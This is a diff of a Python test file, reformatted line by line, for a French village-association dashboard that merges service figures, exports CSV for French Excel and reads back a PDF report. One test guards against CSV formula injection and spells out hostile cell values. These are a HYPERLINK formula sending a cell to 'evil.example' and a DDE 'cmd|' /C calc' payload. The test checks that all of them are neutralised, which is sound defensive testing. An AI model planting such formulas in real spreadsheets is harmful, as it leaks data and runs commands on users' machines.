@@ -1,5 +1,6 @@
 """The coordinator's figures merged from the services, the CSV exports (what French Excel opens as
 is) and the PDF impact report (its text read back through the fonts' ToUnicode maps)."""
+
 import csv
 import io
 import re
@@ -33,19 +34,55 @@ class Answers:
 
 def _services(orders=None):
     return {
-        "members": Answers({"figures": {"a": {"new_members": 3, "volunteer_minutes": 150},
-                                        "b": {"new_members": 1, "volunteer_minutes": 0}},
-                            "details": {"missing_skills": [{"village_id": "b", "village_name": "Saint-Aubin-des-Prés",
-                                                            "skill": "informatique", "label": "Informatique",
-                                                            "requested": 2, "unmatched": 1}]}}),
-        "orders": orders or Answers({"figures": {"a": {"orders": 2, "sales_cents": 4550}, "b": {"orders": 0,
-                                                                                               "sales_cents": 0}},
-                                     "details": {"sales_by_partner": [
-                                         {"village_id": "a", "partner_id": "p1", "partner_name": "Fromagerie",
-                                          "sales_cents": 4550}]}}),
+        "members": Answers(
+            {
+                "figures": {
+                    "a": {"new_members": 3, "volunteer_minutes": 150},
+                    "b": {"new_members": 1, "volunteer_minutes": 0},
+                },
+                "details": {
+                    "missing_skills": [
+                        {
+                            "village_id": "b",
+                            "village_name": "Saint-Aubin-des-Prés",
+                            "skill": "informatique",
+                            "label": "Informatique",
+                            "requested": 2,
+                            "unmatched": 1,
+                        }
+                    ]
+                },
+            }
+        ),
+        "orders": orders
+        or Answers(
+            {
+                "figures": {
+                    "a": {"orders": 2, "sales_cents": 4550},
+                    "b": {"orders": 0, "sales_cents": 0},
+                },
+                "details": {
+                    "sales_by_partner": [
+                        {
+                            "village_id": "a",
+                            "partner_id": "p1",
+                            "partner_name": "Fromagerie",
+                            "sales_cents": 4550,
+                        }
+                    ]
+                },
+            }
+        ),
         "partners": Answers({"figures": {"a": {"brand_new_figure": 7}}, "details": {}}),
-        "events": Answers({"figures": {"a": {"attendance": 12, "median_answer_days": 2.5},
-                                       "b": {"attendance": 4, "median_answer_days": None}}, "details": {}}),
+        "events": Answers(
+            {
+                "figures": {
+                    "a": {"attendance": 12, "median_answer_days": 2.5},
+                    "b": {"attendance": 4, "median_answer_days": None},
+                },
+                "details": {},
+            }
+        ),
     }
 
 
@@ -58,8 +95,15 @@ def test_figures_are_merged_per_village_labelled_in_french_and_unknown_names_kep
     services = _services()
     result = _collect(services)
     assert services["members"].calls == [("2026-11-01", "2026-11-30", None)]
-    assert result["rows"]["a"] == {"new_members": 3, "volunteer_minutes": 150, "orders": 2, "sales_cents": 4550,
-                                   "brand_new_figure": 7, "attendance": 12, "median_answer_days": 2.5}
+    assert result["rows"]["a"] == {
+        "new_members": 3,
+        "volunteer_minutes": 150,
+        "orders": 2,
+        "sales_cents": 4550,
+        "brand_new_figure": 7,
+        "attendance": 12,
+        "median_answer_days": 2.5,
+    }
     assert result["totals"]["sales_cents"] == 4550 and result["totals"]["attendance"] == 16
     assert "median_answer_days" not in result["totals"], "a median is not summed"
     header, rows = F.village_table(result)
@@ -75,13 +119,19 @@ def test_a_service_without_figures_is_named_and_the_rest_shown():
     assert result["rows"]["a"]["new_members"] == 3
     bad = _collect(_services(orders=Answers(error=InvalidInput({"date_to": ["x"]}))))
     assert bad["unavailable"] == ["orders"]
-    older = _collect(_services(orders=Answers(error=IncorrectSignature("takes 4 positional arguments"))))
-    assert older["unavailable"] == ["orders"], "a service not upgraded yet is named, the page still shows"
+    older = _collect(
+        _services(orders=Answers(error=IncorrectSignature("takes 4 positional arguments")))
+    )
+    assert older["unavailable"] == ["orders"], (
+        "a service not upgraded yet is named, the page still shows"
+    )
 
 
 def test_optional_details_are_asked_for_only_when_wanted():
     services = _services()
-    F.collect(services, date(2026, 11, 1), date(2026, 11, 30), None, VILLAGES, ("sales_by_partner",))
+    F.collect(
+        services, date(2026, 11, 1), date(2026, 11, 30), None, VILLAGES, ("sales_by_partner",)
+    )
     assert services["orders"].calls == [("2026-11-01", "2026-11-30", None, ["sales_by_partner"])]
 
 
@@ -98,36 +148,83 @@ def test_every_table_exports_as_csv_for_french_excel():
     body = exports.to_csv(*tables["villages"])
     assert body.startswith("\ufeff".encode("utf-8"))
     rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
-    assert rows[0][:3] == ["Village", "Commandes", "Ventes (€)"] and "Heures de bénévolat (h)" in rows[0]
+    assert (
+        rows[0][:3] == ["Village", "Commandes", "Ventes (€)"]
+        and "Heures de bénévolat (h)" in rows[0]
+    )
     assert rows[1][:3] == ["Le Bourg-aux-Chênes", "2", "45,50"], "bare numbers with a decimal comma"
-    sales = list(csv.reader(io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
-                            delimiter=";"))
-    assert sales == [["Village", "Partenaire", "Ventes (€)"], ["Le Bourg-aux-Chênes", "Fromagerie", "45,50"]]
+    sales = list(
+        csv.reader(
+            io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
+            delimiter=";",
+        )
+    )
+    assert sales == [
+        ["Village", "Partenaire", "Ventes (€)"],
+        ["Le Bourg-aux-Chênes", "Fromagerie", "45,50"],
+    ]
 
 
 def test_csv_cells_typed_by_people_never_run_as_formulas():
     """Issue 21: a partner's or a village's name starting with `= + - @`, a tab or a carriage return
     is written with a quote in front (OWASP); plain numbers, negative ones too, stay numbers."""
-    typed = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "+33 6 12 34 56 78", "-1+cmd|' /C calc'!A0",
-             "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
-    orders = Answers({"figures": {"a": {"orders": 2, "sales_cents": -1250}},
-                      "details": {"sales_by_partner": [{"village_id": "a", "partner_id": f"p{n}", "partner_name": name,
-                                                        "sales_cents": 100} for n, name in enumerate(typed)]}})
-    result = F.collect(_services(orders), date(2026, 11, 1), date(2026, 11, 30), None,
-                       [{"id": "a", "name": "=1+1"}, {"id": "b", "name": "Saint-Aubin-des-Prés"}])
+    typed = [
+        '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
+        "+33 6 12 34 56 78",
+        "-1+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    orders = Answers(
+        {
+            "figures": {"a": {"orders": 2, "sales_cents": -1250}},
+            "details": {
+                "sales_by_partner": [
+                    {
+                        "village_id": "a",
+                        "partner_id": f"p{n}",
+                        "partner_name": name,
+                        "sales_cents": 100,
+                    }
+                    for n, name in enumerate(typed)
+                ]
+            },
+        }
+    )
+    result = F.collect(
+        _services(orders),
+        date(2026, 11, 1),
+        date(2026, 11, 30),
+        None,
+        [{"id": "a", "name": "=1+1"}, {"id": "b", "name": "Saint-Aubin-des-Prés"}],
+    )
     tables = exports.csv_tables(result)
-    sales = list(csv.reader(io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
-                            delimiter=";"))
+    sales = list(
+        csv.reader(
+            io.StringIO(exports.to_csv(*tables["sales_by_partner"]).decode("utf-8-sig")),
+            delimiter=";",
+        )
+    )
     assert [row[1] for row in sales[1:]] == ["'" + name for name in typed]
     assert all(row[0] == "'=1+1" for row in sales[1:])
-    villages = list(csv.reader(io.StringIO(exports.to_csv(*tables["villages"]).decode("utf-8-sig")), delimiter=";"))
+    villages = list(
+        csv.reader(
+            io.StringIO(exports.to_csv(*tables["villages"]).decode("utf-8-sig")), delimiter=";"
+        )
+    )
     assert villages[1][:3] == ["'=1+1", "2", "-12,50"], "a negative figure stays a number"
     assert exports.to_csv(["=A"], [[-3, 2.5, None, "-", "Fromagerie"]]).decode("utf-8-sig") == (
-        "'=A\r\n-3;2.5;;'-;Fromagerie\r\n")
+        "'=A\r\n-3;2.5;;'-;Fromagerie\r\n"
+    )
 
 
 def test_a_period_is_read_from_the_query_with_errors_by_field():
-    assert F.parse_period({"du": "2026-11-01", "au": "2026-11-30"}) == (date(2026, 11, 1), date(2026, 11, 30), {})
+    assert F.parse_period({"du": "2026-11-01", "au": "2026-11-30"}) == (
+        date(2026, 11, 1),
+        date(2026, 11, 30),
+        {},
+    )
     assert set(F.parse_period({"du": "01/11/2026", "au": "2026-11-30"})[2]) == {"du"}
     assert set(F.parse_period({"du": "2026-11-30", "au": "2026-11-01"})[2]) == {"au"}
     first, last, errors = F.parse_period({})
@@ -142,17 +239,39 @@ def _pdf_texts(pdf: bytes) -> list[str]:
             streams.append(zlib.decompress(raw))
         except zlib.error:
             streams.append(raw)
-    maps = [{int(a, 16): chr(int(b, 16)) for a, b in re.findall(rb"<([0-9A-F]{4})> <([0-9A-F]{4,})>", s)}
-            for s in streams if b"beginbfchar" in s]
-    escapes = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f", b"(": b"(", b")": b")", b"\\": b"\\"}
+    maps = [
+        {
+            int(a, 16): chr(int(b, 16))
+            for a, b in re.findall(rb"<([0-9A-F]{4})> <([0-9A-F]{4,})>", s)
+        }
+        for s in streams
+        if b"beginbfchar" in s
+    ]
+    escapes = {
+        b"n": b"\n",
+        b"r": b"\r",
+        b"t": b"\t",
+        b"b": b"\b",
+        b"f": b"\f",
+        b"(": b"(",
+        b")": b")",
+        b"\\": b"\\",
+    }
     strings = []
     for stream in streams:
         for raw in re.findall(rb"\(((?:\\.|[^\\)])*)\) Tj", stream, re.S):
             strings.append(re.sub(rb"\\([nrtbf()\\])", lambda m: escapes[m.group(1)], raw))
     texts = [" ".join(s.decode("latin-1") for s in strings)]
     for cmap in maps:
-        texts.append(" ".join("".join(cmap.get(int.from_bytes(s[i:i + 2], "big"), "?") for i in range(0, len(s) - 1, 2))
-                              for s in strings))
+        texts.append(
+            " ".join(
+                "".join(
+                    cmap.get(int.from_bytes(s[i : i + 2], "big"), "?")
+                    for i in range(0, len(s) - 1, 2)
+                )
+                for s in strings
+            )
+        )
     return texts
 
 
@@ -190,12 +309,31 @@ def test_charts_are_inline_svg_with_a_text_alternative(bars):
 
 
 def test_details_read_in_french_and_hide_codes_that_have_a_label():
-    rows = [{"village_id": "a", "village_name": "Le Bourg", "category": "mobilite", "category_label": "Mobilité",
-             "skill": "jardinage", "label": "Petit jardinage", "status": "running", "deadline": "2026-12-01",
-             "starts_at": "2026-12-02T10:00:00+00:00", "campaign_id": "c1"}]
+    rows = [
+        {
+            "village_id": "a",
+            "village_name": "Le Bourg",
+            "category": "mobilite",
+            "category_label": "Mobilité",
+            "skill": "jardinage",
+            "label": "Petit jardinage",
+            "status": "running",
+            "deadline": "2026-12-01",
+            "starts_at": "2026-12-02T10:00:00+00:00",
+            "campaign_id": "c1",
+        }
+    ]
     header, [row] = F.detail_table("x", rows)
     assert header == ["Village", "Catégorie", "Compétence", "État", "Échéance", "Début"]
-    assert row == ["Le Bourg", "Mobilité", "Petit jardinage", "en cours", "mardi 1 décembre 2026",
-                   "mercredi 2 décembre 2026, 11 h 00"]
+    assert row == [
+        "Le Bourg",
+        "Mobilité",
+        "Petit jardinage",
+        "en cours",
+        "mardi 1 décembre 2026",
+        "mercredi 2 décembre 2026, 11 h 00",
+    ]
     csv_header, [csv_row] = F.detail_table("x", rows, F.csv_value, F.csv_label)
-    assert csv_row[-2:] == ["2026-12-01", "2026-12-02T10:00:00+00:00"], "the spreadsheet keeps sortable dates"
+    assert csv_row[-2:] == ["2026-12-01", "2026-12-02T10:00:00+00:00"], (
+        "the spreadsheet keeps sortable dates"
+    )
